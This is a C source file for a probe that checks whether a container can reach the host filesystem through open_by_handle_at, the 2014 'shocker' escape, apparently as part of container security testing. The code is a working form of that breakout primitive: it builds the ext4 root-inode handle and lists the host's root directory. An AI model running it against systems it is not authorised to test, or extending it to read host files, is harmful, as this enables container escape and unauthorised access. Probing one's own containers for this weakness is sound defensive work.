/*
 * open-by-handle-at: does this container reach the host's filesystem through
 * open_by_handle_at(2)? (the "shocker" technique, 2014)
 *
 * A file bind-mounted from the host (Docker's /etc/hosts by default) lives on a host
 * filesystem. open_by_handle_at(mount_fd, handle, ...) opens ANY inode of the filesystem that
 * mount_fd is on, whatever the caller's mount namespace or chroot shows: the kernel only asks
 * for CAP_DAC_READ_SEARCH. The probe
 *   1. opens the bind-mounted file (argv[1], default /etc/hosts) as mount_fd;
 *   2. calls name_to_handle_at on it to learn the filesystem's handle format (when allowed:
 *      Docker's default profile gives it to CAP_SYS_ADMIN only; otherwise ext4 is assumed);
 *   3. builds the handle of the filesystem's root directory: on ext2/3/4 the root is inode 2,
 *      generation 0, in the FILEID_INO32_GEN format (type 1: u32 inode, u32 generation);
 *   4. calls open_by_handle_at(mount_fd, handle, O_RDONLY | O_DIRECTORY) and lists it.
 *
 * It prints exactly one line and exits with a distinct code:
 *   OK <entry> <entry> ...   0   the filesystem root opened (names sorted, at most 64)
 *   EPERM                    10  open_by_handle_at refused with EPERM (seccomp or no capability)
 *   ERRNO <n> <name>         11  open_by_handle_at failed otherwise (e.g. ESTALE: no such inode)
 *   SETUP <step> <n> <name>  12  opening argv[1] failed (or name_to_handle_at, but for EPERM)
 *   UNSUPPORTED <type> <len> 13  the filesystem's handles are not in a format built here
 *   USAGE                    2
 *
 * Built static (gcc -static, glibc's libc.a) so it runs in any container, busybox-only ones
 * included. Only syscalls and readdir: nothing glibc would need NSS or dlopen for.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define EXIT_OK 0
#define EXIT_USAGE 2
#define EXIT_EPERM 10
#define EXIT_ERRNO 11
#define EXIT_SETUP 12
#define EXIT_UNSUPPORTED 13

#define FILEID_INO32_GEN 1
#define FILEID_INO32_GEN_PARENT 2
#define EXT_ROOT_INO 2
#define MAX_ENTRIES 64

static const char *errname(int e) {
  const char *n = strerrorname_np(e);
  return n ? n : "?";
}

static int by_name(const void *a, const void *b) {
  return strcmp(*(char *const *)a, *(char *const *)b);
}

int main(int argc, char **argv) {
  const char *path = argc > 1 ? argv[1] : "/etc/hosts";
  if (argc > 2) {
    printf("USAGE\n");
    return EXIT_USAGE;
  }

  int mount_fd = open(path, O_RDONLY);
  if (mount_fd < 0) {
    int e = errno;
    printf("SETUP open %d %s\n", e, errname(e));
    return EXIT_SETUP;
  }

  /*
   * Step 2 (best effort): the handle of the bind-mounted file itself tells the format.
   * Docker's default profile allows name_to_handle_at only with CAP_SYS_ADMIN, so it usually
   * fails with EPERM here; like the original exploit, the probe then assumes ext4's format
   * (the format open_by_handle_at is checked against is the filesystem's, not this call's).
   */
  struct file_handle *own = malloc(sizeof(struct file_handle) + MAX_HANDLE_SZ);
  own->handle_bytes = MAX_HANDLE_SZ;
  int mount_id;
  if (name_to_handle_at(AT_FDCWD, path, own, &mount_id, 0) == 0) {
    if ((own->handle_type != FILEID_INO32_GEN && own->handle_type != FILEID_INO32_GEN_PARENT) ||
        own->handle_bytes < 8) {
      printf("UNSUPPORTED %d %u\n", own->handle_type, own->handle_bytes);
      return EXIT_UNSUPPORTED;
    }
  } else if (errno != EPERM && errno != ENOSYS) {
    int e = errno;
    printf("SETUP name_to_handle_at %d %s\n", e, errname(e));
    return EXIT_SETUP;
  }

  /* Step 3: the root directory's handle: inode 2, generation 0. */
  struct file_handle *root = malloc(sizeof(struct file_handle) + 8);
  root->handle_bytes = 8;
  root->handle_type = FILEID_INO32_GEN;
  uint32_t ino_gen[2] = {EXT_ROOT_INO, 0};
  memcpy(root->f_handle, ino_gen, sizeof ino_gen);

  /* Step 4. */
  int fd = open_by_handle_at(mount_fd, root, O_RDONLY | O_DIRECTORY);
  if (fd < 0) {
    int e = errno;
    if (e == EPERM) {
      printf("EPERM\n");
      return EXIT_EPERM;
    }
    printf("ERRNO %d %s\n", e, errname(e));
    return EXIT_ERRNO;
  }

  DIR *dir = fdopendir(fd);
  if (dir == NULL) {
    int e = errno;
    printf("SETUP fdopendir %d %s\n", e, errname(e));
    return EXIT_SETUP;
  }
  char *names[MAX_ENTRIES];
  int count = 0;
  struct dirent *d;
  while ((d = readdir(dir)) != NULL && count < MAX_ENTRIES) {
    if (strcmp(d->d_name, ".") == 0 || strcmp(d->d_name, "..") == 0) {
      continue;
    }
    names[count++] = strdup(d->d_name);
  }
  qsort(names, count, sizeof names[0], by_name);
  printf("OK");
  for (int i = 0; i < count; i++) {
    printf(" %s", names[i]);
  }
  printf("\n");
  return EXIT_OK;
}
